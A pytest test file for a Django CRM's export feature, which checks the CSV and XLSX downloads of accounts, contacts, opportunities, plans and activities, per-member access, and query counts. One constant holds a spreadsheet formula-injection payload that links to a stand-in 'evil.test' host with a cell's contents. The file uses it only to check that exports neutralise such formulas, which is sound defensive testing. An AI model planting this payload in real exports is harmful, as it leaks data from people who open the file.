"""The Export page and its downloads: accounts, contacts, opportunities, revenue, plans
and activities of the accounts the member sees, as CSV or XLSX (the files of
`keyfolio export KIND`)."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from keyfolio.accounts.models import Account
from keyfolio.activities.models import Activity
from keyfolio.core.tables import table_read
from keyfolio.plans.models import AccountPlan, PlanAnswer, PlanQuestion
from keyfolio.portfolio.tests.test_square import add_account
from keyfolio.revenue.models import Opportunity, RevenueEntry
from keyfolio.stakeholders.models import Contact

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Open")'
KINDS = ["accounts", "contacts", "opportunities", "revenue", "plans", "activities"]


def url(world, kind, file_format="csv") -> str:
    return reverse(f"portfolio:export_{kind}", args=(world.slug, file_format))


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def download(world, person, kind, file_format="csv"):
    response = world.client_for(getattr(world, person)).get(url(world, kind, file_format))
    assert response.status_code == 200
    return response


def records(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


def fill(world, account, *, n=0):
    """One of each record for `account`."""
    boss = Contact.objects.create(
        workspace=world.workspace, account=account, name=f"Anna Boss {n}", influence=5
    )
    Contact.objects.create(
        workspace=world.workspace,
        account=account,
        name=f"Boris Buyer {n}",
        title="Head of purchasing",
        department="Procurement",
        email=f"boris{n}@client.test",
        phone="+7 495 000-00-00",
        decision_role="economic_buyer",
        influence=4,
        attitude=-1,
        reports_to=boss,
    )
    Opportunity.objects.create(
        workspace=world.workspace,
        account=account,
        name=f"Renewal {n}",
        amount=Decimal("125000.50"),
        currency="EUR",
        stage="Negotiation",
        probability=60,
        expected_close=date(2026, 6, 30),
        owner=world.manager,
        external_id=f"006A{n}",
        source="salesforce",
    )
    RevenueEntry.objects.create(
        workspace=world.workspace, account=account, month=date(2025, 1, 1), amount=1000
    )
    plan = AccountPlan.objects.create(
        workspace=world.workspace,
        account=account,
        title="2026",
        starts_on=date(2026, 1, 1),
        planned_revenue=Decimal("500000"),
        loyalty=4,
        resource_owner=world.teammate,
    )
    for question in PlanQuestion.objects.filter(workspace=world.workspace)[:2]:
        PlanAnswer.objects.create(
            plan=plan,
            question=question,
            text="<div>They buy on value.</div><ul><li>Fast delivery</li><li>Support</li></ul>",
        )
    Activity.objects.create(
        workspace=world.workspace,
        account=account,
        kind="meeting",
        occurred_on=date(2025, 2, 3),
        summary="Quarterly review",
        next_step="Send the proposal",
        created_by=world.manager,
    )


@pytest.fixture
def exported(world):
    """Northwind (the manager's, in a group under Northwind Holding) with one record of
    each kind, Contoso (the outsider's) likewise, and an archived account."""
    holding = add_account(world, "Northwind Holding", owner=world.director)
    world.account.parent = holding
    world.account.segment = "Retail"
    world.account.stage = "cooperative"
    world.account.website = "https://northwind.test"
    world.account.save()
    fill(world, world.account)
    contoso = add_account(world, "Contoso", owner=world.outsider)
    fill(world, contoso, n=1)
    add_account(world, "Zed Archived", owner=world.manager).archive()
    return world


# --- what each holds -------------------------------------------------------------------


def test_accounts_hold_every_field_in_the_imports_column_names(exported):
    rows = {row["name"]: row for row in records(download(exported, "owner", "accounts"))}
    northwind = rows["Northwind"]
    assert list(northwind)[:3] == ["name", "parent", "owner"]
    assert northwind["parent"] == "Northwind Holding"
    assert northwind["owner"] == "max@acme.test"
    assert (northwind["segment"], northwind["stage"]) == ("Retail", "cooperative")
    assert northwind["website"] == "https://northwind.test"
    assert (northwind["goal_min_zone"], northwind["archived"]) == ("target", "False")
    assert rows["Zed Archived"]["archived"] == "True"


def test_contacts_hold_their_account_and_whom_they_report_to(exported):
    rows = records(download(exported, "manager", "contacts"))
    boris = next(row for row in rows if row["name"] == "Boris Buyer 0")
    assert boris == boris | {
        "account": "Northwind",
        "title": "Head of purchasing",
        "department": "Procurement",
        "email": "boris0@client.test",
        "decision_role": "economic_buyer",
        "influence": "4",
        "attitude": "-1",
        "reports_to": "Anna Boss 0",
        "active": "True",
    }


def test_opportunities_hold_the_columns_the_import_reads(exported):
    [row] = records(download(exported, "manager", "opportunities"))
    assert row == {
        "account": "Northwind",
        "name": "Renewal 0",
        "amount": "125000.50",
        "currency": "EUR",
        "stage": "Negotiation",
        "probability": "60",
        "expected_close": "2026-06-30",
        "status": "open",
        "owner": "max@acme.test",
        "external_id": "006A0",
        "source": "salesforce",
    }


def test_plans_hold_the_figures_and_every_answer_as_text(exported):
    [row] = records(download(exported, "manager", "plans"))
    first, second, *rest = PlanQuestion.objects.filter(workspace=exported.workspace)
    assert (row["account"], row["title"], row["starts_on"]) == ("Northwind", "2026", "2026-01-01")
    assert (row["planned_revenue"], row["loyalty"]) == ("500000.00", "4")
    assert row["resource_owner"] == "tom@acme.test"
    text = "They buy on value.\n• Fast delivery\n• Support"
    assert row[f"answer_{first.key}"] == row[f"answer_{second.key}"] == text
    assert all(row[f"answer_{question.key}"] == "" for question in rest)


def test_activities_hold_the_date_kind_notes_and_author(exported):
    [row] = records(download(exported, "manager", "activities"))
    assert row == {
        "account": "Northwind",
        "occurred_on": "2025-02-03",
        "kind": "meeting",
        "summary": "Quarterly review",
        "next_step": "Send the proposal",
        "next_step_due": "",
        "author": "max@acme.test",
    }


def test_the_xlsx_has_typed_cells_and_a_filename(exported):
    response = download(exported, "manager", "opportunities", "xlsx")
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="acme-opportunities-{today}.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
    header, row = ([cell for cell in line] for line in sheet.iter_rows(max_row=2))
    values = dict(zip((cell.value for cell in header), row, strict=True))
    assert (values["amount"].value, values["amount"].data_type) == (125000.5, "n")
    assert values["expected_close"].is_date
    assert sheet.title == "Opportunities"


@pytest.mark.parametrize("kind", KINDS)
def test_each_is_the_file_of_keyfolio_export(exported, kind):
    out = io.StringIO()
    call_command("export", kind, "--workspace", "acme", stdout=out)
    assert body(download(exported, "owner", kind)).decode("utf-8-sig") == out.getvalue()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("kind", "column"), [("accounts", 0), ("contacts", 1), ("activities", 3), ("plans", 1)]
)
def test_it_neutralises_text_that_starts_with_a_formula(exported, kind, column, file_format):
    exported.account.name = HOSTILE
    exported.account.save()
    Contact.objects.filter(account=exported.account).update(name=HOSTILE)
    Activity.objects.filter(account=exported.account).update(summary=HOSTILE)
    AccountPlan.objects.filter(account=exported.account).update(title=HOSTILE)
    response = download(exported, "manager", kind, file_format)
    if file_format == "csv":
        cells = [row[column] for row in csv.reader(io.StringIO(body(response).decode()))]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
        cells = [row[column].value for row in sheet.iter_rows()]
        assert all(row[column].data_type != "f" for row in sheet.iter_rows())
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells


# --- who gets what ----------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_a_member_gets_only_the_accounts_they_see(exported, kind):
    def accounts(person):
        column = "name" if kind == "accounts" else "account"
        return {row[column] for row in records(download(exported, person, kind))}

    everyone = {"Northwind", "Contoso"}
    if kind == "accounts":
        assert accounts("director") == everyone | {"Northwind Holding", "Zed Archived"}
        assert accounts("manager") == {"Northwind", "Zed Archived"}
    else:
        assert accounts("director") == everyone
        assert accounts("manager") == accounts("viewer") == {"Northwind"}
    assert "Northwind" not in accounts("outsider")


@pytest.mark.parametrize("kind", [*KINDS, "scoring-sheet"])
def test_another_workspace_gets_a_404(exported, kind):
    name = "portfolio:scoring_sheet" if kind == "scoring-sheet" else f"portfolio:export_{kind}"
    args = (exported.slug,) if kind == "scoring-sheet" else (exported.slug, "csv")
    response = exported.client_for(exported.stranger).get(reverse(name, args=args))
    assert response.status_code == 404


# --- the page ---------------------------------------------------------------------------


def test_the_page_links_every_export_in_each_of_its_formats(exported):
    page_url = reverse("portfolio:exports", args=(exported.slug,))
    page = exported.client_for(exported.viewer).get(page_url).content.decode()
    for kind in KINDS:
        for file_format in ("csv", "xlsx"):
            assert f'href="{url(exported, kind, file_format)}"' in page
    for name in ("portfolio:export", "portfolio:export_scores"):
        assert f'href="{reverse(name, args=(exported.slug, "xlsx"))}"' in page
    assert f'href="{reverse("portfolio:scoring_sheet", args=(exported.slug,))}"' in page
    assert "The accounts you manage or are on the team of" in page


def test_the_square_links_the_page(exported):
    square = exported.client_for(exported.manager).get(
        reverse("portfolio:square", args=(exported.slug,))
    )
    assert reverse("portfolio:exports", args=(exported.slug,)) in square.content.decode()


# --- queries ----------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("count", [2, 20])
@pytest.mark.parametrize(
    ("kind", "queries"),
    [
        # session, user, membership; then the records.
        ("accounts", 4),
        ("contacts", 4),
        ("opportunities", 4),
        ("revenue", 4),
        # ... and the plan questions, for the columns.
        ("plans", 5),
        ("activities", 4),
    ],
)
def test_it_makes_the_same_number_of_queries_whatever_the_size(
    world, django_assert_num_queries, count, file_format, kind, queries
):
    for n in range(count):
        account = add_account(world, f"Account {n:02}", owner=world.manager)
        account.team.add(world.teammate)
        fill(world, account, n=n)
    client = world.client_for(world.teammate)
    with django_assert_num_queries(queries):
        data = body(client.get(url(world, kind, file_format)))
    rows = list(table_read(io.BytesIO(data)))
    # Northwind, the teammate's too, has only itself to export.
    expected = {"accounts": count + 1, "contacts": 2 * count}.get(kind, count)
    assert len(rows) == 1 + expected
    assert Account.objects.count() > count  # the world's other accounts are left out


# --- the scoring sheet ------------------------------------------------------------------


def test_the_scoring_sheet_has_a_row_per_active_account_the_member_sees(exported):
    response = exported.client_for(exported.manager).get(
        reverse("portfolio:scoring_sheet", args=(exported.slug,))
    )
    today = timezone.localdate()
    assert response["Content-Disposition"] == (
        f'attachment; filename="acme-scoring-sheet-{today.isoformat()}.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
    assert [(row[0].value, row[1].value.date()) for row in sheet.iter_rows(min_row=2)] == [
        ("Northwind", today)
    ]
    assert sheet.protection.sheet and sheet.data_validations.dataValidation
